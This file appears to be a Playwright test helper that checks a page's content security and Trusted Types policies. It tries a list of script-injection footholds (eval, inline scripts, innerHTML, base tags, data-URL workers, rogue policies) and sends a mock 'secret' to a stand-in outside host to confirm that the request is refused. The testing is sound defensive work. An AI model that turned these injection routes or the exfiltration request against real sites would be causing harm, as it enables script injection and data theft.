/** The walls of a page from the inside: what it was refused while it was used, and what an intruder can do in it. */
import type { BrowserContext, Page } from 'playwright-core'

/** Chromium has Web Bluetooth, and a name for it, on other systems only. */
const isUnknownHere = /Unrecognized feature: 'bluetooth'/

/** Every violation of a content security policy in the pages loaded from now on, as `directive address`. */
export async function watchRefusals(context: BrowserContext): Promise<readonly string[]> {
  const refused: string[] = []
  await context.exposeBinding('tellRefusal', (_source, refusal: string) => void refused.push(refusal))
  await context.addInitScript(() => {
    const { tellRefusal } = window as unknown as { tellRefusal: (refusal: string) => void }
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      tellRefusal(`${effectiveDirective} ${blockedURI} ${sample}`.trim())
    )
  })
  // What a worker is refused is told in the console alone, and so are headers that are not understood.
  context.on('console', (message) => {
    const text = message.text()
    if (/content security policy|permissions-policy|trusted/i.test(text) && !isUnknownHere.test(text))
      refused.push(text)
  })
  return refused
}

/** What came of each way to get a foothold in the page: 'done', or the name of what it was refused with. */
export type Footholds = Readonly<Record<string, string>>

/** Tries them all as script of the page itself would: the policy is what is left when something else has failed. */
export function attack(page: Page): Promise<Footholds> {
  return page.evaluate(async () => {
    const outcomes: Record<string, string> = {}
    const attempt = async (name: string, action: () => unknown): Promise<void> => {
      try {
        outcomes[name] = (await action()) === false ? 'refused' : 'done'
      } catch (error) {
        outcomes[name] = (error as Error).name
      }
    }
    /** Whether a script of text has run; the text leaves its mark. */
    const isMarked = (mark: string): boolean => document.documentElement.hasAttribute(mark)
    const marking = (mark: string): string => `document.documentElement.setAttribute('${mark}', '')`
    const append = <Name extends 'script' | 'style' | 'iframe' | 'base' | 'object'>(
      name: Name,
      fill: (element: HTMLElementTagNameMap[Name]) => void
    ): HTMLElementTagNameMap[Name] => {
      const element = document.createElement(name)
      fill(element)
      document.body.append(element)
      return element
    }
    const factory = (window as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } })
      .trustedTypes
    // What a debugger evaluates may use eval while it is at it; what comes after is the page's own.
    await new Promise((resolve) => setTimeout(resolve))

    await attempt('eval', () => (0, eval)('1'))
    await attempt('Function', () => Reflect.construct(Function, ['return 1']))
    await attempt('timer of text', () => Reflect.apply(setTimeout, window, ['0']))
    await attempt('inline script', () => {
      append('script', (script) => script.append(marking('inline')))
      return isMarked('inline')
    })
    await attempt('text of a script', () => {
      append('script', (script) => (script.textContent = marking('text')))
      return isMarked('text')
    })
    await attempt('address of a script', () => append('script', (script) => (script.src = '/nothing.js')))
    await attempt('handler in markup', () => {
      document.body.setAttribute('onclick', marking('handler'))
      document.body.dispatchEvent(new Event('click'))
      return isMarked('handler')
    })
    await attempt('innerHTML', () => (document.createElement('p').innerHTML = '<b>bold</b>'))
    await attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<i></i>'))
    await attempt('DOMParser', () => new DOMParser().parseFromString('<b></b>', 'text/html'))
    await attempt('srcdoc', () => append('iframe', (frame) => (frame.srcdoc = '<b></b>')))
    await attempt('worker of text', () => new Worker('data:text/javascript,0').terminate())
    await attempt('policy of its own', () => factory?.createPolicy('mine', {}))
    await attempt('default policy', () => factory?.createPolicy('default', {}))
    await attempt('name of our policy', () => factory?.createPolicy('confab-worker', {}))
    await attempt('inline style', () => {
      append('style', (style) => style.append('body { outline-color: rgb(1, 2, 3) }'))
      return getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)'
    })
    await attempt('style in markup', () => {
      document.body.setAttribute('style', 'outline-width: 7px; outline-style: solid')
      return getComputedStyle(document.body).outlineWidth === '7px'
    })
    await attempt('base', () => {
      const base = append('base', (element) => (element.href = 'https://elsewhere.example/'))
      const isMoved = document.baseURI.includes('elsewhere')
      base.remove()
      return isMoved
    })
    await attempt('USB', () => (navigator as unknown as { usb: { getDevices(): unknown } }).usb.getDevices())
    await attempt('place', () => navigator.geolocation && isFeatureAllowed('geolocation'))
    await attempt('camera', () => isFeatureAllowed('camera'))
    function isFeatureAllowed(feature: string): boolean {
      const { featurePolicy } = document as unknown as {
        featurePolicy: { allowsFeature(name: string): boolean }
      }
      return featurePolicy.allowsFeature(feature)
    }
    return outcomes
  })
}

/** A module that is no file of ours. Text, because what the specs are compiled by replaces `import()`. */
export function importText(page: Page): Promise<string> {
  return page.evaluate<string>(
    "import('data:text/javascript,export{}').then(() => 'done', (error) => error.name)"
  )
}

/** Asks a host that is not ours for something. @returns the directive it was refused by, or 'sent' */
export function askElsewhere(page: Page): Promise<string> {
  return page.evaluate(
    () =>
      new Promise<string>((settle) => {
        document.addEventListener(
          'securitypolicyviolation',
          ({ effectiveDirective }) => settle(effectiveDirective),
          { once: true }
        )
        fetch('https://elsewhere.example/?what=secret').then(
          () => settle('sent'),
          // The violation is told in a task of its own, and may come after this.
          () => setTimeout(() => settle('sent'), 1_000)
        )
      })
  )
}

/** The headers of the page, as it was served. */
export function headersOf(page: Page): Promise<Readonly<Record<string, string>>> {
  return page.evaluate(async () => Object.fromEntries((await fetch(location.href)).headers))
}

/** The directives of a policy by name. */
export function directivesOf(policy = ''): Readonly<Record<string, string>> {
  return Object.fromEntries(
    policy.split(/; ?/).map((directive) => {
      const [name = '', ...sources] = directive.split(' ')
      return [name, sources.join(' ')]
    })
  )
}
